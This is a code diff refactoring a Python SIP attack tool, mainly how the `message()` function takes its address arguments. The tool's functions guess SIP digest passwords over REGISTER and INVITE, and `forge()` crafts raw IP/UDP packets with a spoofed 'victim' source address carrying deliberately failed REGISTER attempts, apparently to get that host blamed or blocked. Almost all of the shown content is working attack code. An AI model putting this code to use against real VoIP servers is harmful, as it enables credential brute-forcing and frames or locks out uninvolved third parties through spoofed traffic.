@@ -65,8 +65,9 @@ class Line:
             self._rest += self.sock.recv(65_535)
 
 
-def message(method, server, here, port, transport, user, call, sequence, authorization="", branch=None):
-    """One request."""
+def message(method, server, ends, sequence, authorization=""):
+    """One request; `ends` are our address and port, the transport, the user and the Call-ID."""
+    here, port, transport, user, call = ends
     host = f"[{server}]" if ":" in server else server
     own = f"[{here}]" if ":" in here else here
     body = "v=0\r\no=- 1 1 IN IP4 0.0.0.0\r\ns=-\r\nc=IN IP4 0.0.0.0\r\nt=0 0\r\nm=audio 4000 RTP/AVP 0\r\n"
@@ -80,7 +81,7 @@ def message(method, server, here, port, transport, user, call, sequence, authori
     uri = f"sip:{host}" if method == "REGISTER" else f"sip:1000@{host}"
     lines = [
         f"{method} {uri} SIP/2.0",
-        f"Via: SIP/2.0/{transport.upper()} {own}:{port};rport;branch={branch or 'z9hG4bK' + secrets.token_hex(6)}",
+        f"Via: SIP/2.0/{transport.upper()} {own}:{port};rport;branch=z9hG4bK{secrets.token_hex(6)}",
         f"From: <sip:{user}@{host}>;tag={call[:8]}",
         f"To: <sip:{to}@{host}>",
         f"Call-ID: {call}",
@@ -122,11 +123,11 @@ def guess(server, method, transport, user, password, line=None):
     line = line or Line(server, transport)
     call = secrets.token_hex(12)
     ends = (line.here, line.port, transport, user, call)
-    answer = line.exchange(message(method, server, *ends, 1))
+    answer = line.exchange(message(method, server, ends, 1))
     if "-Authenticate" in answer:
         if method == "INVITE":
-            line.sock.sendall(message("ACK", server, *ends, 1))
-        answer = line.exchange(message(method, server, *ends, 2, credentials(method, server, user, password, answer)))
+            line.sock.sendall(message("ACK", server, ends, 1))
+        answer = line.exchange(message(method, server, ends, 2, credentials(method, server, user, password, answer)))
     return answer.split()[1], answer
 
 
@@ -138,11 +139,11 @@ def phone(server, count, user, password):
         call = secrets.token_hex(12)
         ends = (line.here, line.port, "udp", user, call)
         used = credentials("REGISTER", server, user, password, before) if before else ""
-        answer = line.exchange(message("REGISTER", server, *ends, 1, used))
+        answer = line.exchange(message("REGISTER", server, ends, 1, used))
         if "-Authenticate" in answer:
             before = answer
             answer = line.exchange(
-                message("REGISTER", server, *ends, 2, credentials("REGISTER", server, user, password, answer))
+                message("REGISTER", server, ends, 2, credentials("REGISTER", server, user, password, answer))
             )
         print(answer.split()[1], flush=True)
 
@@ -153,14 +154,11 @@ def forge(server, count, victim, borrow):
     line = Line(server, "udp")
     for number in range(count):
         call = secrets.token_hex(12)
-        challenge = f'WWW-Authenticate: Digest realm="asterisk", nonce="{secrets.token_hex(16)}", qop="auth"'
         if borrow or number == 0:
-            challenge = line.exchange(message("REGISTER", server, line.here, line.port, "udp", "1000", call, 1))
+            challenge = line.exchange(message("REGISTER", server, (line.here, line.port, "udp", "1000", call), 1))
         nonce = None if borrow else secrets.token_hex(16)
-        if not borrow:
-            challenge = challenge if "Digest" in challenge else ""
         header = credentials("REGISTER", server, "1000", "wrong", challenge, nonce=nonce)
-        payload = message("REGISTER", server, victim, 5060, "udp", "1000", call, 2, header)
+        payload = message("REGISTER", server, (victim, 5060, "udp", "1000", call), 2, header)
         datagram = struct.pack(">HHHH", 5060, 5060, 8 + len(payload), 0) + payload
         addresses = socket.inet_aton(victim) + socket.inet_aton(server)
         head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(datagram), number + 1, 0, 64, 17, 0) + addresses
